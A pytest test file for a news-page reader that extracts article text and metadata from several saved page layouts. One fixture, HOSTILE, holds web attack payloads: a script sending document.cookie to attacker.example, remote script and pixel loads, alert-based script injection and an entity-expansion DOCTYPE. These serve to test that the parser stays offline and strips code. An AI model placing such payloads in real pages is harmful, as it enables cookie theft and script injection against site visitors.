"""Saved web pages as input: five page layouts written for these tests, and hostile pages."""

from __future__ import annotations

import json
import socket
from importlib import resources
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from medialit.article import Article, ArticleError
from medialit.cli import main
from medialit.webpage import PAGE_KEYS, load_page, read_page, removed_html

STORY = (
    "<p>Crews returned to work on Tuesday after the union and the ferry operator agreed a new "
    "pay deal, the port authority said in a statement.</p>"
    "<p>Services between the three islands will run to the normal timetable from Wednesday "
    "morning, a spokeswoman for the operator told reporters at the harbour.</p>"
    "<p>The strike had stranded about two thousand passengers over the weekend, and some "
    "shops on the smaller islands ran short of fresh food and fuel.</p>"
)
STORY_WORDS = ("pay deal", "normal timetable", "stranded about two thousand")

JSON_LD_PAGE = f"""<!doctype html><html><head><title>Ferry strike ends</title>
<script type="application/ld+json">{{"@context": "https://schema.org", "@graph": [
 {{"@type": "WebSite", "name": "Coast Daily Website"}},
 {{"@type": "NewsArticle", "headline": "Ferry strike ends after two days",
  "author": [{{"@type": "Person", "name": "Mira Holm"}}, {{"@type": "Person", "name": "Ola Berg"}}],
  "publisher": {{"@type": "Organization", "name": "Coast Daily"}},
  "datePublished": "2024-03-05T09:30:00+01:00", "dateModified": "2024-03-06T08:00:00+01:00",
  "mainEntityOfPage": {{"@id": "https://coastdaily.example/ferry-strike-ends"}},
  "inLanguage": "en-GB"}}]}}</script></head>
<body><header><a href="/">Coast Daily</a><nav><ul><li>Home</li><li>Islands</li>
<li>Weather</li></ul></nav></header><main><article><h1>Ferry strike ends after two days</h1>
{STORY}</article></main><footer>Copyright Coast Daily 2024. All rights reserved.</footer>
</body></html>"""

META_PAGE = f"""<html><head><meta charset="utf-8">
<meta property="og:title" content="Ferry strike ends after two days">
<meta property="og:site_name" content="Island Herald">
<meta property="og:url" content="https://herald.example/news/ferry">
<meta name="author" content="Ola Berg">
<meta http-equiv="content-language" content="en">
<meta property="article:published_time" content="2024-03-05T10:00:00Z">
<meta property="article:modified_time" content="2024-03-05T16:45:00Z">
</head><body><div id="menu"><a href="/">Front page</a> <a href="/sport">Sport</a></div>
<div class="story">{STORY}</div>
<div class="share-bar"><a>Share on Facebook</a> <a>Share by email</a></div></body></html>"""

BLOG_PAGE = f"""<!DOCTYPE html><html lang="en-US"><head><title>Ferry strike ends &#8211; Harbour
Notes</title><link rel="canonical" href="https://harbournotes.example/2024/03/ferry/"></head>
<body><div class="site"><header class="site-header"><p class="site-title">Harbour Notes</p>
</header><div class="content"><article class="post"><h1 class="entry-title">Ferry strike
ends</h1><p class="byline">Posted on <time datetime="2024-03-07T12:00:00+00:00">March 7,
2024</time></p><div class="entry-content">{STORY}</div></article>
<div id="comments" class="comments-area"><h2>Leave a Reply</h2><form><label>Your email address
will not be published.</label></form></div></div><aside class="sidebar"><h3>Recent posts</h3>
<ul><li>Lighthouse reopens to visitors</li><li>Winter storms close the pier</li></ul></aside>
</div></body></html>"""

WIRE_PAGE = f"""<html><head><title>Ferry strike ends | World News Wire</title></head><body>
<div class="top"><span>Menu</span> <span>Search</span></div><div class="story-body">
<h1>Ferry strike ends after two days</h1><p class="date">Published 5 March 2024</p>{STORY}
<div class="advert">Advertisement</div></div><div class="related"><h2>Related stories</h2>
<ul><li><a href="/a">Port workers vote on new contract</a></li></ul></div>
<div class="newsletter"><p>Sign up for our morning briefing</p></div></body></html>"""

PLAIN_PAGE = f"""<html><head><title>Ferry strike ends</title></head><body><main><h1>Ferry
strike ends after two days</h1>{STORY}</main><p>Back to top</p></body></html>"""

LAYOUTS: list[tuple[str, str, dict[str, Any], tuple[str, ...]]] = [
    (
        "json_ld",
        JSON_LD_PAGE,
        {
            "title": ("Ferry strike ends after two days", "json-ld headline"),
            "author": ("Mira Holm, Ola Berg", "json-ld author"),
            "site": ("Coast Daily", "json-ld publisher"),
            "url": ("https://coastdaily.example/ferry-strike-ends", "json-ld mainEntityOfPage"),
            "language": ("en-GB", "json-ld inLanguage"),
            "published": ("2024-03-05", "json-ld datePublished"),
            "modified": ("2024-03-06", "json-ld dateModified"),
        },
        ("Islands", "Copyright Coast Daily 2024. All rights reserved."),
    ),
    (
        "meta_only",
        META_PAGE,
        {
            "title": ("Ferry strike ends after two days", "meta[property=og:title]"),
            "author": ("Ola Berg", "meta[name=author]"),
            "site": ("Island Herald", "meta[property=og:site_name]"),
            "url": ("https://herald.example/news/ferry", "meta[property=og:url]"),
            "language": ("en", "meta[http-equiv=content-language]"),
            "published": ("2024-03-05", "meta[property=article:published_time]"),
            "modified": ("2024-03-05", "meta[property=article:modified_time]"),
        },
        ("Share on Facebook",),
    ),
    (
        "blog",
        BLOG_PAGE,
        {
            "title": ("Ferry strike ends – Harbour Notes", "title"),
            "author": None,
            "url": ("https://harbournotes.example/2024/03/ferry/", "link[rel=canonical]"),
            "language": ("en-US", "html[lang]"),
            "published": ("2024-03-07", "time[datetime]"),
        },
        ("Leave a Reply", "Lighthouse reopens to visitors"),
    ),
    (
        "wire",
        WIRE_PAGE,
        {
            "title": ("Ferry strike ends | World News Wire", "title"),
            "published": ("2024-03-05", "htmldate"),
            "site": None,
        },
        ("Port workers vote on new contract", "Sign up for our morning briefing"),
    ),
    (
        "plain",
        PLAIN_PAGE,
        {"title": ("Ferry strike ends", "title"), "author": None, "url": None},
        ("Back to top",),
    ),
]


@pytest.mark.parametrize(
    ("html", "expected", "removed"), [x[1:] for x in LAYOUTS], ids=[x[0] for x in LAYOUTS]
)
def test_layouts_give_text_leftovers_and_metadata(
    html: str, expected: dict[str, Any], removed: tuple[str, ...]
) -> None:
    page = read_page(html)
    assert page.text.startswith("Ferry strike ends")
    for words in STORY_WORDS:
        assert words in page.text
    kept = {block.text for block in page.removed}
    for block in removed:
        assert block in kept
        assert block not in page.text
    for key, value in expected.items():
        found = page.metadata[key]
        assert (found and (found["value"], found["source"])) == value, key


def test_metadata_follows_the_schema() -> None:
    path = resources.files("medialit").joinpath("data/page.schema.json")
    schema = json.loads(path.read_text(encoding="utf-8"))
    for _, html, _, _ in LAYOUTS:
        metadata = read_page(html).metadata
        assert tuple(metadata) == PAGE_KEYS
        jsonschema.validate(metadata, schema)


def test_article_from_file_reads_a_saved_page(tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text(JSON_LD_PAGE, encoding="utf-8")
    article = Article.from_file(path)
    assert article.page is not None and article.page["site"]["value"] == "Coast Daily"
    assert article.paragraphs[0].text == "Ferry strike ends after two days"
    assert Article.from_text("The ferry left at noon on Monday.").page is None


def test_cli_analyzes_a_saved_page(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "page.htm"
    path.write_text(META_PAGE, encoding="utf-8")
    assert main(["analyze", str(path), "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["page"]["published"] == {
        "value": "2024-03-05",
        "source": "meta[property=article:published_time]",
    }
    assert main(["analyze", str(path)]) == 0
    assert "page site: Island Herald (meta[property=og:site_name])" in capsys.readouterr().out


def test_removed_blocks_are_shown_literally() -> None:
    page = read_page(META_PAGE.replace("Share by email", "Pay $5 &lt;b&gt;now or $10 later"))
    assert "Pay $5 <b>now or $10 later" in {block.text for block in page.removed}
    shown = removed_html(page)
    assert "<b>now" not in shown and "&lt;b&gt;now" in shown
    assert "tex2jax_ignore" in shown


HOSTILE = f"""<!DOCTYPE html [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>
<html><head><meta http-equiv="refresh" content="0; url=http://attacker.example/">
<link rel="stylesheet" href="http://attacker.example/style.css">
<script src="http://attacker.example/x.js"></script>
<script>fetch('http://attacker.example/steal?c=' + document.cookie)</script>
<script type="application/ld+json">{{"@type": "NewsArticle", "datePublished": </script>
<style>body {{ background: url(http://attacker.example/bg.png) }}</style></head>
<body onload="alert('loaded')"><iframe src="http://attacker.example/frame"></iframe>
<img src="http://attacker.example/pixel.gif" onerror="alert('img')">
<object data="http://attacker.example/flash.swf"></object>
<h1>Ferry strike ends after two days</h1>{STORY}
<p><a href="javascript:alert('link')">Click here</a> &b;</p>
<svg><script>alert('svg')</script></svg><noscript>Enable scripts please</noscript>
{"<div>" * 400}deep{"</div>" * 400}</body></html>"""


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("the page tried to reach the network")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


@pytest.mark.usefixtures("no_network")
def test_a_hostile_page_is_only_data() -> None:
    page = read_page(HOSTILE)
    for words in STORY_WORDS:
        assert words in page.text
    everything = page.text + " ".join(b.text for b in page.removed)
    for code in ("fetch(", "alert(", "document.cookie", "background:", "Enable scripts"):
        assert code not in everything
    assert page.metadata["published"] is None or page.metadata["published"]["source"] != (
        "json-ld datePublished"
    )


@pytest.mark.usefixtures("no_network")
@pytest.mark.parametrize(
    "html", ["", "<html></html>", "\x00\x01\x02", "<p>" * 5000, "<script>x</script>"]
)
def test_broken_or_empty_pages_fail_clearly_or_give_little_text(html: str) -> None:
    try:
        page = read_page(html)
    except ArticleError as error:
        assert "HTML" in str(error)
        return
    assert isinstance(page.text, str) and "x" not in page.text.split()


def test_a_page_too_large_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "big.html"
    path.write_bytes(b"<p>" + b"a" * 6_000_000 + b"</p>")
    with pytest.raises(ArticleError, match="MB"):
        load_page(path)


def test_lesson_05_box_loads_a_saved_page(tmp_path: Path) -> None:
    from medialit.exercises.sessions import Session
    from medialit.workbench import SLOT, ArticleBox, your_article

    session = Session("05_your_article", folder=tmp_path, learner="ana")
    box = ArticleBox(session)
    assert ".html" in box.upload.accept
    box._uploaded({"new": [{"name": "page.html", "content": memoryview(META_PAGE.encode())}]})
    assert "✓ Saved" in box.status.value
    saved = session.record(SLOT)["text"]
    assert saved.startswith("Ferry strike ends") and "Share on Facebook" not in saved
    path = tmp_path / "page.html"
    path.write_text(BLOG_PAGE, encoding="utf-8")
    assert your_article(session, path=path).page is not None


def test_the_lessons_second_page_reads_as_a_translation_from_turkish() -> None:
    from medialit.artifacts import artifacts
    from medialit.webpage import practice_page

    page = practice_page("market_fire")
    assert page.metadata["published"] == {
        "value": "2025-02-11",
        "source": "meta[property=article:published_time]",
    }
    assert {"Share on Facebook", "Heavy rain closed two roads in Marlow"} <= {
        block.text for block in page.removed
    }
    flags = artifacts(page.article())
    turkish = [a for a in flags if a.rule.startswith("calque:tr_")]
    assert len(turkish) >= 3
    assert all("translation from Turkish" in a.explanation for a in turkish)
    assert "glued_words" in {a.category for a in flags}
